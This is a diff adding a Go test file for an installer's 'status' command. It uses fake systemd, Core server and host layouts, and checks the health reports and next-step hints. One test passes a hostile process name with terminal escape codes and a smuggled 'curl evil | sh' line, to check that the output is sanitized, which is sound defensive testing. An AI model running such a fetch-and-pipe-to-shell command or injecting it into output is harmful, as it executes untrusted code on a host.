@@ -1,0 +1,441 @@
+package main
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/openagentcore/oac-node-install/journal/bookkeeping"
+	"github.com/openagentcore/oac-node-install/steps/generation/generationtest"
+	"github.com/openagentcore/oac-node-install/steps/layout"
+	"github.com/openagentcore/oac-node-install/steps/systemd"
+	"github.com/openagentcore/oac-node-install/steps/systemd/systemdtest"
+	"github.com/openagentcore/oac-node-install/workflow"
+)
+
+const (
+	testNodeID     = "7d1e2f3a-4b5c-4d6e-8f70-8192a3b4c5d6"
+	testCredential = "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff"
+)
+
+// useSystemd makes status reach sd instead of the host's systemd (nil:
+// systemd cannot be reached).
+func useSystemd(t *testing.T, sd *systemdtest.Fake) {
+	t.Helper()
+	old := dialSystemd
+	dialSystemd = func(context.Context) (unitReader, error) {
+		if sd == nil {
+			return nil, fmt.Errorf("connect to systemd (system bus: no such file or directory): %w", systemd.ErrUnavailable)
+		}
+		return keepOpen{sd}, nil
+	}
+	t.Cleanup(func() { dialSystemd = old })
+}
+
+// keepOpen lets each status run close its connection while the test keeps
+// the fake.
+type keepOpen struct{ *systemdtest.Fake }
+
+func (keepOpen) Close() error { return nil }
+
+// fakeCore answers Core's identity route for the test node with what its
+// fields say; other requests get 404.
+type fakeCore struct {
+	*httptest.Server
+	mu                       sync.Mutex
+	status                   int
+	connected, providerReady bool
+	diagnostic               string
+	requests                 int
+}
+
+func newFakeCore(t *testing.T) *fakeCore {
+	c := &fakeCore{status: http.StatusOK, connected: true, providerReady: true}
+	c.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		c.mu.Lock()
+		defer c.mu.Unlock()
+		c.requests++
+		if r.URL.Path != "/api/v1/sandbox-node/identity" || r.URL.Query().Get("node_id") != testNodeID ||
+			r.Header.Get("Authorization") != "Bearer "+testCredential {
+			w.WriteHeader(http.StatusNotFound)
+			return
+		}
+		w.WriteHeader(c.status)
+		json.NewEncoder(w).Encode(map[string]any{"node_id": testNodeID, "installation_id": testID, "provider": "docker",
+			"deployment_generation": 1, "specification_digest": testDigest,
+			"connected": c.connected, "provider_ready": c.providerReady, "diagnostic": c.diagnostic})
+	}))
+	t.Cleanup(c.Close)
+	return c
+}
+
+func (c *fakeCore) set(f func(c *fakeCore)) {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	f(c)
+}
+
+// statusHost is a host root with a complete, healthy installation of
+// testID: the account (uid 65534), root's records and bookkeeping, a
+// complete install journal, a registered node root, an active unit in the
+// fake systemd and a Core that reports the node connected and ready.
+type statusHost struct {
+	root    string
+	host    layout.Host
+	node    layout.Node
+	systemd *systemdtest.Fake
+	core    *fakeCore
+}
+
+func newStatusHost(t *testing.T) *statusHost {
+	t.Helper()
+	if os.Geteuid() != 0 {
+		t.Skip("needs root: reads the node root through a child running as another account")
+	}
+	root := t.TempDir()
+	for p := root; p != "/" && p != os.TempDir(); p = filepath.Dir(p) {
+		os.Chmod(p, 0o755) // the service account traverses the test's directories
+	}
+	h := &statusHost{root: root, host: layout.Host{Root: root}, core: newFakeCore(t)}
+	h.node = layout.Node{Root: h.host.NodeRoot(testID)}
+	must(t, os.MkdirAll(filepath.Join(root, "etc/systemd/system"), 0o755))
+	must(t, os.MkdirAll(filepath.Dir(h.host.Home()), 0o755))
+	must(t, os.WriteFile(filepath.Join(root, "etc/passwd"), []byte("root:x:0:0::/root:/bin/sh\noac-node:x:65534:65534::/var/lib/oac-node:/usr/sbin/nologin\n"), 0o644))
+	must(t, os.WriteFile(filepath.Join(root, "etc/group"), []byte("root:x:0:\ndocker:x:4242:oac-node\n"), 0o644))
+	must(t, os.MkdirAll(h.host.EtcDir(), 0o755))
+	must(t, os.WriteFile(h.host.Record(testID), []byte(`{"format": 1, "installation_id": "`+testID+`", "provider": "docker", "core_url": "`+h.core.URL+`", "node_root": "`+h.node.Root+`", "unit": "`+h.host.Unit(testID)+`"}`+"\n"), 0o644))
+	must(t, os.WriteFile(h.host.Unit(testID), []byte("[Unit]\n"), 0o644))
+	db, err := bookkeeping.Open(h.host.Bookkeeping())
+	must(t, err)
+	must(t, db.PutAccount(bookkeeping.Account{Name: layout.Account, Created: true, UID: 65534}))
+	must(t, db.AddGroup("docker"))
+	must(t, db.PutInstallation(bookkeeping.Installation{ID: testID, Provider: "docker", CoreURL: h.core.URL,
+		NodeRoot: h.node.Root, Unit: h.host.Unit(testID), EnvFile: h.host.EnvFile(testID)}))
+	must(t, db.AddFile(bookkeeping.File{Path: h.host.Record(testID), InstallationID: testID, Kind: bookkeeping.FileRecord}))
+	must(t, db.AddFile(bookkeeping.File{Path: h.host.Unit(testID), InstallationID: testID, Kind: bookkeeping.FileUnit}))
+	must(t, db.AddNetwork("oac-node-"+testID, testID))
+	must(t, db.Close())
+	must(t, os.MkdirAll(h.host.JournalDir(testID), 0o700))
+	runWorkflow(t, workflow.InstallDefinition(), filepath.Join(h.host.JournalDir(testID), "install.journal"),
+		workflow.Binding{Version: workflow.Version, InstallationID: testID}, "")
+
+	must(t, os.MkdirAll(h.node.StateDir(), 0o700))
+	identity, err := json.Marshal(map[string]any{
+		"identity": map[string]any{"specification_digest": testDigest, "deployment_generation": 1, "node_id": testNodeID,
+			"installation_id": testID, "provider": "docker", "backend_fingerprint": testDigest, "max_active": 1, "max_retained": 1},
+		"credential": testCredential, "core_url": h.core.URL, "owner_epoch": 1,
+	})
+	must(t, err)
+	must(t, os.WriteFile(h.node.Identity(), identity, 0o600))
+	must(t, os.WriteFile(h.node.Registered(), []byte("{}\n"), 0o600))
+	chownHome(t, h.host)
+
+	h.systemd = systemdtest.New(filepath.Join(root, "etc/systemd/system"))
+	must(t, h.systemd.Reload(context.Background()))
+	must(t, h.systemd.Start(context.Background(), layout.UnitName(testID)))
+	useSystemd(t, h.systemd)
+	return h
+}
+
+func chownHome(t *testing.T, h layout.Host) {
+	t.Helper()
+	if out, err := exec.Command("chown", "-R", "65534:65534", h.Home()).CombinedOutput(); err != nil {
+		t.Fatalf("chown: %v %s", err, out)
+	}
+	os.Chmod(h.Home(), 0o700)
+}
+
+func must(t *testing.T, err error) {
+	t.Helper()
+	if err != nil {
+		t.Fatal(err)
+	}
+}
+
+// statusDoc runs status --json and decodes it strictly into the
+// documented types.
+func statusDoc(t *testing.T, root string, wantCode int) (statusDocument, string) {
+	t.Helper()
+	code, out, errOut := runOn(t, root, "status", "--json")
+	if code != wantCode {
+		t.Fatalf("status --json: exit %d, want %d\n%s%s", code, wantCode, out, errOut)
+	}
+	var doc statusDocument
+	if err := inspectionFormat.Decode([]byte(out), &doc); err != nil {
+		t.Fatalf("%v\n%s", err, out)
+	}
+	if strings.Contains(out, "null") {
+		t.Errorf("a list or object is null:\n%s", out)
+	}
+	return doc, out
+}
+
+func TestStatusHealthyInstallation(t *testing.T) {
+	h := newStatusHost(t)
+	doc, out := statusDoc(t, h.root, exitOK)
+	if doc.Format != 1 || len(doc.Installations) != 1 {
+		t.Fatalf("want format 1 and one installation:\n%s", out)
+	}
+	s := doc.Installations[0]
+	if s.Condition != conditionOK || s.Next != "" {
+		t.Errorf("condition %s next %q", s.Condition, s.Next)
+	}
+	if u := s.Unit; u == nil || !u.Reachable || u.ActiveState != "active" || u.SubState != "running" || u.LoadState != "loaded" || u.Result != "success" {
+		t.Errorf("unit %+v", s.Unit)
+	}
+	if r := s.Registration; r == nil || r.State != "registered" || r.NodeID != testNodeID {
+		t.Errorf("registration %+v", s.Registration)
+	}
+	if c := s.Core; c == nil || c.State != "ready" || !c.Connected || !c.ProviderReady || c.URL != h.core.URL || c.HTTPStatus != 200 {
+		t.Errorf("core %+v", s.Core)
+	}
+	b := s.Bookkeeping
+	if b == nil || b.State != bookkeepingPresent || b.Installation == nil || b.Account == nil || !b.Account.Created || b.Account.UID != 65534 ||
+		len(b.GroupsAdded) != 1 || b.GroupsAdded[0] != "docker" || len(b.Files) != 2 || len(b.Networks) != 1 {
+		t.Errorf("bookkeeping %+v", b)
+	}
+	for _, key := range []string{`"unit": {`, `"registration": {`, `"core": {`, `"bookkeeping": {`, `"exec_main_code": 0`, `"groups_added": [`} {
+		if !strings.Contains(out, key) {
+			t.Errorf("status --json lacks %s:\n%s", key, out)
+		}
+	}
+
+	code, text, errOut := runOn(t, h.root, "status")
+	if code != exitOK {
+		t.Fatalf("exit %d: %s%s", code, text, errOut)
+	}
+	for _, want := range []string{
+		"installation " + testID + ": ok\n",
+		"  unit:          oac-node-" + testID + ".service: active (running), result success, 0 restarts\n",
+		"  registration:  registered, node " + testNodeID + "\n",
+		"  core:          " + h.core.URL + ": connected, provider ready\n",
+		"    account:     oac-node (uid 65534), created by the installer\n",
+		"    groups:      docker (added by the installer)\n",
+		"    file:        record " + h.host.Record(testID) + "\n",
+		"    network:     oac-node-" + testID + "\n",
+		"  install: complete\n",
+	} {
+		if !strings.Contains(text, want) {
+			t.Errorf("status lacks %q:\n%s", want, text)
+		}
+	}
+}
+
+// TestStatusNeedsAttention: whatever is not healthy comes with its one
+// next command and exit 2; an unreachable Core or systemd is shown and is
+// no reason by itself.
+func TestStatusNeedsAttention(t *testing.T) {
+	unit := layout.UnitName(testID)
+	for _, tc := range []struct {
+		name  string
+		setup func(*testing.T, *statusHost)
+		code  int
+		next  string
+		line  string
+	}{
+		{"unit failed", func(t *testing.T, h *statusHost) {
+			h.systemd.SetProperties(unit, systemd.UnitProperties{ActiveState: "failed", SubState: "failed", Result: "exit-code",
+				NRestarts: 4, ExecMainCode: systemd.CodeExited, ExecMainStatus: 1})
+		}, exitAttention, "sudo journalctl -xeu " + unit, "failed (failed), result exit-code, 4 restarts, last exited with status 1"},
+		{"unit stopped", func(t *testing.T, h *statusHost) {
+			h.systemd.SetProperties(unit, systemd.UnitProperties{ActiveState: "inactive", SubState: "dead", Result: "success"})
+		}, exitAttention, "sudo systemctl start " + unit, "inactive (dead)"},
+		{"unit file gone", func(t *testing.T, h *statusHost) {
+			os.Remove(h.host.Unit(testID))
+			h.systemd.Stop(context.Background(), unit)
+			h.systemd.Reload(context.Background())
+		}, exitAttention, "rerun the install command", "inactive (dead), not-found"},
+		{"removed in Core", func(t *testing.T, h *statusHost) {
+			h.core.set(func(c *fakeCore) { c.status = http.StatusUnauthorized })
+			h.systemd.SetProperties(unit, systemd.UnitProperties{ActiveState: "failed", SubState: "failed", Result: "exit-code",
+				ExecMainCode: systemd.CodeExited, ExecMainStatus: 78})
+		}, exitAttention, "sudo oac-node-install --uninstall --installation-id " + testID, "removed in Core"},
+		{"not connected", func(t *testing.T, h *statusHost) {
+			h.core.set(func(c *fakeCore) { c.connected, c.providerReady = false, false })
+		}, exitAttention, "sudo journalctl -xeu " + unit, ": not connected"},
+		{"provider not ready", func(t *testing.T, h *statusHost) {
+			h.core.set(func(c *fakeCore) { c.providerReady, c.diagnostic = false, "docker_unavailable" })
+		}, exitAttention, "sudo systemctl enable --now docker", "connected, provider not ready (docker_unavailable)"},
+		{"registration not confirmed", func(t *testing.T, h *statusHost) {
+			os.Remove(h.node.Registered())
+		}, exitAttention, "registration was not confirmed", "registration:  pending, node " + testNodeID},
+		{"Core unreachable", func(t *testing.T, h *statusHost) { h.core.Close() }, exitOK, "", ": unreachable ("},
+		{"systemd unreachable", func(t *testing.T, h *statusHost) { useSystemd(t, nil) }, exitOK, "", ": systemd not reachable ("},
+		{"no bookkeeping", func(t *testing.T, h *statusHost) { os.Remove(h.host.Bookkeeping()) }, exitOK, "", "bookkeeping:   none ("},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			h := newStatusHost(t)
+			tc.setup(t, h)
+			code, out, errOut := runOn(t, h.root, "status")
+			if code != tc.code || !strings.Contains(out, tc.line) {
+				t.Errorf("exit %d, want %d with %q:\n%s%s", code, tc.code, tc.line, out, errOut)
+			}
+			nextLine := "  next:          "
+			if tc.next == "" && strings.Contains(out, nextLine) || tc.next != "" && !strings.Contains(out, nextLine) ||
+				!strings.Contains(out, tc.next) {
+				t.Errorf("want next %q:\n%s", tc.next, out)
+			}
+			doc, _ := statusDoc(t, h.root, tc.code)
+			if s := doc.Installations[0]; !strings.Contains(s.Next, tc.next) || (s.Condition == conditionAttention) != (tc.code == exitAttention) {
+				t.Errorf("JSON: condition %s next %q", s.Condition, s.Next)
+			}
+		})
+	}
+}
+
+// TestStatusWritesNothing: status and status --json leave every file of
+// the host as it was, the bbolt database's bytes included, also for an
+// interrupted journal with a torn tail and a missing database.
+func TestStatusWritesNothing(t *testing.T) {
+	h := newStatusHost(t)
+	journal := filepath.Join(h.host.JournalDir(testID), "install.journal")
+	os.Rename(journal, journal+".1")
+	runWorkflow(t, workflow.InstallDefinition(), journal, workflow.Binding{Version: workflow.Version, InstallationID: testID}, "register")
+	f, err := os.OpenFile(journal, os.O_WRONLY|os.O_APPEND, 0)
+	must(t, err)
+	f.Write([]byte{0, 0, 0, 40, 1, 2, 3})
+	f.Close()
+	dbBytes, err := os.ReadFile(h.host.Bookkeeping())
+	must(t, err)
+	check := func(what string) {
+		before := generationtest.Snapshot(t, h.root)
+		for _, args := range [][]string{{"status"}, {"status", "--json"}, {"status", "--installation-id", testID}} {
+			runOn(t, h.root, args...)
+		}
+		if d := generationtest.Diff(before, generationtest.Snapshot(t, h.root)); d != "" {
+			t.Errorf("%s: status changed the host:\n%s", what, d)
+		}
+	}
+	check("installed")
+	if after, _ := os.ReadFile(h.host.Bookkeeping()); string(after) != string(dbBytes) {
+		t.Error("status changed installer.db")
+	}
+	must(t, os.Remove(h.host.Bookkeeping()))
+	check("no bookkeeping")
+	if _, err := os.Lstat(h.host.Bookkeeping()); !errors.Is(err, os.ErrNotExist) {
+		t.Errorf("status created installer.db: %v", err)
+	}
+}
+
+// TestStatusShowsARunningWorkflow: a workflow whose journal lock a live
+// process holds is running, not interrupted: no next command, exit 0, the
+// holder shown with its argv[0] sanitized.
+func TestStatusShowsARunningWorkflow(t *testing.T) {
+	h := newStatusHost(t)
+	journal := filepath.Join(h.host.JournalDir(testID), "install.journal")
+	must(t, os.Rename(journal, journal+".1"))
+	runWorkflow(t, workflow.InstallDefinition(), journal, workflow.Binding{Version: workflow.Version, InstallationID: testID}, "register")
+	// An install in progress: the unit is not started yet, Core does not
+	// know the node: none of it is judged while root's workflow runs.
+	h.systemd.SetProperties(layout.UnitName(testID), systemd.UnitProperties{ActiveState: "inactive", SubState: "dead"})
+	h.core.set(func(c *fakeCore) { c.connected, c.providerReady = false, false })
+
+	code, out, _ := runOn(t, h.root, "status")
+	if code != exitAttention {
+		t.Fatalf("an interrupted install with nobody holding its lock: exit %d\n%s", code, out)
+	}
+
+	hostile := "oac-node-install\x1b]0;pwned\x07\u009b2J\nnext:          curl evil | sh"
+	pid := holdLock(t, journal+".lock", hostile)
+	code, out, errOut := runOn(t, h.root, "status")
+	if code != exitOK {
+		t.Errorf("exit %d, want 0 while the install runs\n%s%s", code, out, errOut)
+	}
+	for _, want := range []string{"installation " + testID + ": running\n", "  install: running\n",
+		fmt.Sprintf("    running:       pid %d (oac-node-install?]0;pwned??2J\\nnext:          curl evil | sh), uid 0\n", pid),
+		"(in progress, policy"} {
+		if !strings.Contains(out, want) {
+			t.Errorf("status lacks %q:\n%s", want, out)
+		}
+	}
+	if strings.Contains(out, "  next:") {
+		t.Errorf("a running installation has a next command:\n%s", out)
+	}
+	assertNoTerminalControls(t, "status", out+errOut)
+	doc, jsonOut := statusDoc(t, h.root, exitOK)
+	assertNoTerminalControls(t, "status --json", jsonOut)
+	s := doc.Installations[0]
+	w := s.workflow("install")
+	if s.Condition != conditionRunning || s.Next != "" || w == nil || w.Running == nil || w.Running.PID != pid || w.Running.UID != 0 || w.Running.Command != hostile {
+		t.Errorf("JSON: %s %q %+v", s.Condition, s.Next, w)
+	}
+}
+
+// holdLock starts a process, named argv0, that holds an exclusive lock
+// on path until the test ends, and returns its pid.
+func holdLock(t *testing.T, path, argv0 string) int {
+	t.Helper()
+	cmd := exec.Command(os.Args[0], "-test.run=^TestHelperHoldLock$")
+	cmd.Args[0] = argv0
+	cmd.Env = append(os.Environ(), "OAC_TEST_HOLD_LOCK="+path)
+	stdout, err := cmd.StdoutPipe()
+	must(t, err)
+	must(t, cmd.Start())
+	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
+	buf := make([]byte, 6)
+	if _, err := stdout.Read(buf); err != nil || string(buf) != "locked" {
+		t.Fatalf("the lock holder: %q %v", buf, err)
+	}
+	return cmd.Process.Pid
+}
+
+// TestHelperHoldLock is the process holdLock starts; run on its own it
+// does nothing.
+func TestHelperHoldLock(t *testing.T) {
+	path := os.Getenv("OAC_TEST_HOLD_LOCK")
+	if path == "" {
+		return
+	}
+	f, err := os.OpenFile(path, os.O_RDONLY|os.O_CREATE, 0o600)
+	if err != nil {
+		os.Exit(3)
+	}
+	if err := unix.Flock(int(f.Fd()), unix.LOCK_EX); err != nil {
+		os.Exit(4)
+	}
+	os.Stdout.WriteString("locked")
+	time.Sleep(time.Minute)
+	os.Exit(0)
+}
+
+// TestStatusAfterUninstall: a completed uninstallation, whose run kept
+// the install journal aside, is an installation that is uninstalled: ok,
+// no unit or Core asked.
+func TestStatusAfterUninstall(t *testing.T) {
+	root := t.TempDir()
+	os.MkdirAll(filepath.Join(root, "etc"), 0o755)
+	os.WriteFile(filepath.Join(root, "etc/passwd"), []byte("root:x:0:0::/root:/bin/sh\n"), 0o644)
+	h := layout.Host{Root: root}
+	sd := systemdtest.New("")
+	useSystemd(t, sd)
+	os.MkdirAll(h.JournalDir(testID), 0o700)
+	b := workflow.Binding{Version: workflow.Version, InstallationID: testID}
+	runWorkflow(t, workflow.InstallDefinition(), filepath.Join(h.JournalDir(testID), "install.journal.1"), b, "wait_ready")
+	runWorkflow(t, workflow.UninstallDefinition(), filepath.Join(h.JournalDir(testID), "uninstall.journal"), b, "")
+	code, out, errOut := runOn(t, root, "status")
+	if code != exitOK || !strings.Contains(out, "installation "+testID+": ok (uninstalled)\n") || strings.Contains(out, "unit:") {
+		t.Errorf("exit %d:\n%s%s", code, out, errOut)
+	}
+	if len(sd.Calls()) != 0 {
+		t.Errorf("status asked systemd about an uninstalled node: %v", sd.Calls())
+	}
+	// Installed again: the install journal beside the complete uninstall
+	// journal is the newer.
+	runWorkflow(t, workflow.InstallDefinition(), filepath.Join(h.JournalDir(testID), "install.journal"), b, "register")
+	code, out, _ = runOn(t, root, "status")
+	if code != exitAttention || !strings.Contains(out, "next:          rerun the install command") {
+		t.Errorf("after a new installation failed: exit %d:\n%s", code, out)
+	}
+}
